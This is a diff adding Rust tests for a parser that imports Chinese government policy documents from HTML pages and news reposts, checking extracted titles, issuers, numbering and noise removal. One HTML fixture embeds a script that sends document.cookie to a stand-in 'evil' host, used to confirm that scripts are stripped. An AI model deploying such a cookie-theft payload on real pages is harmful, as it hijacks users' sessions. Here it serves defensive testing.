@@ -98,6 +98,116 @@ fn covering_notice_is_unit_zero_and_attached_preamble_is_zero_one() {
     );
 }
 
+#[test]
+fn an_html_page_imports_as_its_text_with_nothing_executed() {
+    let page = "<!DOCTYPE html><html><head><title>政府网</title><script>alert(1)</script></head>\
+        <body><div class=nav>首页 | 政策 | 新闻</div>\
+        <h1>中共四川省委 四川省人民政府关于加强区域合作的实施意见</h1>\
+        <p>各市（州）党委和人民政府：</p><p>一、总体要求</p>\
+        <p>（一）指导思想。以&ldquo;一干多支&rdquo;为引领，推动川渝合作。</p>\
+        <script>document.location='http://evil/?'+document.cookie</script></body></html>";
+    let doc = import(page);
+    assert_eq!(doc.title, "关于加强区域合作的实施意见");
+    assert_eq!(doc.issuers, vec!["中共四川省委", "四川省人民政府"]);
+    assert_eq!(doc.jurisdiction.as_deref(), Some("sichuan"));
+    let paths: Vec<&str> = doc.units.iter().map(|u| u.path.as_str()).collect();
+    assert_eq!(paths, vec!["0", "1", "1.1"]);
+    assert!(doc.units[2].text.contains("“一干多支”"));
+    let all: String = doc.units.iter().map(|u| u.text.as_str()).collect();
+    for noise in ["alert", "script", "document", "<", "首页", "&ldquo;"] {
+        assert!(!all.contains(noise), "{noise} left in the text");
+    }
+    let rules: Vec<&str> = doc.removals.iter().map(|r| r.rule.as_str()).collect();
+    assert_eq!(rules, vec!["html-non-text", "site-menu", "html-non-text"]);
+}
+
+#[test]
+fn an_html_page_with_little_text_is_judged_by_its_text() {
+    let markup = format!(
+        "<html><body>{}<p>区域协调发展</p></body></html>",
+        "<div class=\"x\"></div>".repeat(200)
+    );
+    assert!(validate_text(&markup).is_ok());
+    assert!(matches!(
+        validate_text("<html><body><p>only English here</p></body></html>"),
+        Err(ImportError::NotChinese { .. })
+    ));
+}
+
+#[test]
+fn metadata_is_only_what_the_text_states() {
+    // A news lead names the title and issuers but no date or number: none
+    // are invented, the newspaper's issue date is not the document's.
+    let doc = import(
+        "四川日报 2018年11月20日\n本网讯 日前，省委、省政府印发《关于推动区域协同发展的指导意见》，主要内容如下。\n\
+         一、总体要求\n（一）指导思想。坚持协同发展。",
+    );
+    assert_eq!(doc.title, "关于推动区域协同发展的指导意见");
+    assert_eq!(doc.issuers, vec!["省委", "省政府"]);
+    assert_eq!(doc.level, Some(Level::Provincial));
+    assert_eq!(doc.jurisdiction, None);
+    assert_eq!(doc.date, None);
+    assert_eq!(doc.doc_number, None);
+    let title_source = doc
+        .metadata_sources
+        .iter()
+        .find(|s| s.field == "title")
+        .unwrap();
+    assert_eq!(title_source.line, Some(2));
+    assert!(title_source.evidence.contains("主要内容如下"));
+}
+
+#[test]
+fn a_title_broken_over_two_lines_is_one_title() {
+    let doc = import(
+        "发布时间：2024-11-01 21:09:52 来源：sp20241101\n国务院关于推动内蒙古高质量发展\n奋力书写中国式现代化新篇章的意见\n\
+         国发〔2023〕16号\n各省、自治区、直辖市人民政府：\n现提出如下意见。\n一、总体要求\n（一）指导思想\n以习近平新时代中国特色社会主义思想为指导。",
+    );
+    assert_eq!(
+        doc.title,
+        "关于推动内蒙古高质量发展奋力书写中国式现代化新篇章的意见"
+    );
+    assert_eq!(doc.issuers, vec!["国务院"]);
+    assert_eq!(doc.doc_number.as_deref(), Some("国发〔2023〕16号"));
+    assert_eq!(
+        doc.date, None,
+        "the posting time is not the document's date"
+    );
+    assert!(doc.unit("0").unwrap().text.starts_with("各省"));
+    assert_eq!(doc.removals[0].rule, "source-date-clicks");
+}
+
+#[test]
+fn xinhua_header_caption_and_spam_do_not_reach_the_text() {
+    let doc = import(
+        "新华社记者 李学仁 摄中共中央办公厅 国务院办公厅关于加强区域合作的意见\n来源：新华网\n责任编辑：王五\n2018-11-29 10:23:45\n\
+         新华社北京11月29日电 为推动区域合作，现提出如下意见。\n一、总体要求\n1.坚持协同。推进区域合作。\n2.坚持共享。\n\
+         本文来源于网络，如有侵权请联系删除\n",
+    );
+    assert_eq!(doc.title, "关于加强区域合作的意见");
+    assert_eq!(doc.issuers, vec!["中共中央办公厅", "国务院办公厅"]);
+    assert_eq!(doc.date, None);
+    let paths: Vec<&str> = doc.units.iter().map(|u| u.path.as_str()).collect();
+    assert_eq!(paths, vec!["0", "1", "1.1", "1.2"]);
+    assert_eq!(doc.units[0].text, "为推动区域合作，现提出如下意见。");
+    let all: String = doc.units.iter().map(|u| u.text.as_str()).collect();
+    for noise in ["摄", "新华网", "王五", "10:23", "新华社", "侵权"] {
+        assert!(!all.contains(noise), "{noise} left in the text");
+    }
+    let mut rules: Vec<&str> = doc.removals.iter().map(|r| r.rule.as_str()).collect();
+    rules.sort_unstable();
+    rules.dedup();
+    assert_eq!(
+        rules,
+        vec![
+            "news-dateline",
+            "news-header",
+            "photo-caption",
+            "repost-spam"
+        ]
+    );
+}
+
 mod properties {
     //! Property tests: whatever text comes in, the parsers do not panic and
     //! the structure invariants hold.
@@ -132,6 +242,28 @@ mod properties {
             Just("来源:未知 日期:2016-10-19 点击:次".to_string()),
             Just("(di)".to_string()),
             Just("用户登录".to_string()),
+            Just("第一章".to_string()),
+            Just("第二节".to_string()),
+            Just("（1）".to_string()),
+            Just("①".to_string()),
+            Just("目录".to_string()),
+            Just("《".to_string()),
+            Just("》".to_string()),
+            Just("省委、省政府印发".to_string()),
+            Just("，主要内容如下。".to_string()),
+            Just("记者 张三 摄".to_string()),
+            Just("编前语".to_string()),
+            Just("本网讯".to_string()),
+            Just("来源：新华网".to_string()),
+            Just("2018-11-29 10:23:45".to_string()),
+            Just("浙政发(2009)69号".to_string()),
+            Just("(bào)".to_string()),
+            Just("□*×".to_string()),
+            Just("<p>".to_string()),
+            Just("<script>".to_string()),
+            Just("</".to_string()),
+            Just("&nbsp;".to_string()),
+            Just("&#x".to_string()),
             "[\u{4e00}-\u{4e80}]{1,12}",
             "[a-zA-Z0-9 .-]{0,6}",
         ]
@@ -157,6 +289,20 @@ mod properties {
                         prop_assert!(!h.is_empty());
                     }
                 }
+            }
+        }
+
+        #[test]
+        fn html_reading_never_panics_and_leaves_no_markup(raw in document()) {
+            let page = format!("<html><body>{raw}</body></html>");
+            let t = html::html_to_text(&page);
+            prop_assert!(!t.text.contains("<script"));
+            prop_assert!(!t.text.contains("<p>"));
+            // A whole script element after closed markup never reaches the text.
+            let page = format!("<html><body><p>{raw}</p><!-- --><script>var secret = 1;</script></body></html>");
+            let t = html::html_to_text(&page);
+            if page.matches('"').count() % 2 == 0 && page.matches('\'').count() % 2 == 0 {
+                prop_assert!(!t.text.contains("secret"), "{:?}", t.text);
             }
         }
 
